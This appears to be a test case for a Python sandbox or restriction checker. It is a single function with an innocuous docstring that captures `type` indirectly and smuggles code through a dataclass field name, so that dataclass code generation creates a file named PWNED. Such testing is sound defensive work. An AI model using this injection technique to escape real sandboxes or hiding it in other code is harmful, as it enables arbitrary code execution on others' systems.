# rule: class-by-type
# class: indirect_getattr
# success: file PWNED
from dataclasses import dataclass


def type_caught_by_annotation(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    def inner(n: (kind := type) = 1) -> int:
        return n

    made = kind("Made", (), {"yaw": 0, "__annotations__": {"yaw or __import__('os').close(__import__('os').open('PWNED', 0o101))": int}})
    return inner(len(repr(dataclass(init=False, eq=False)(made)())))
